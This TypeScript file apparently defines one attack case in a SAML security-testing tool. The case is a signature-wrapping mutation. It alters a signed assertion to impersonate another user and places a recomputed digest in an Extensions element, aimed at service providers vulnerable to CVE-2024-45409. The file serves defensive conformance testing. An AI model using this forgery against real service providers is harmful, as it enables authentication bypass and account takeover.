import { defineMutation, type MutationContext } from '../../model/mutation.ts';
import { NS } from '../../saml/namespaces.ts';
import { refs } from '../kit/attack-refs.ts';
import { insertBefore } from '../kit/edit.ts';
import { personate } from '../kit/person.ts';
import { digestOf } from '../kit/redigest.ts';
import { extensions, takeApart } from '../kit/take-apart.ts';

function wrap(xml: string, context: MutationContext): string {
  const { put, genuine } = takeApart(xml, context);
  const changed = put(personate(genuine, context));
  const digest = digestOf(changed, 'Response/Assertion');
  const forged = `<ds:DigestValue xmlns:ds="${NS.ds}">${digest}</ds:DigestValue>`;
  return insertBefore(changed, 'Response/Status', extensions(forged));
}

export default defineMutation({
  id: 'wrapping/digest-in-extensions',
  title: 'The digest of a changed assertion stands in Extensions',
  stage: 'after-signing',
  change: { on: 'response', apply: wrap },
  breaks: ['attributes/value', 'signature/digest', 'subject/user-name'],
  hostile: true,
  safe: 'refuses',
  refs: [refs.validateReference, refs.absolutePaths],
  cves: ['CVE-2024-45409'],
  attack: {
    against: 'sp',
    mechanism: 'As in the status detail, for service providers that refuse one there.',
    weakness: ['first-digest-anywhere'],
    needs: ['signed-assertion'],
  },
});
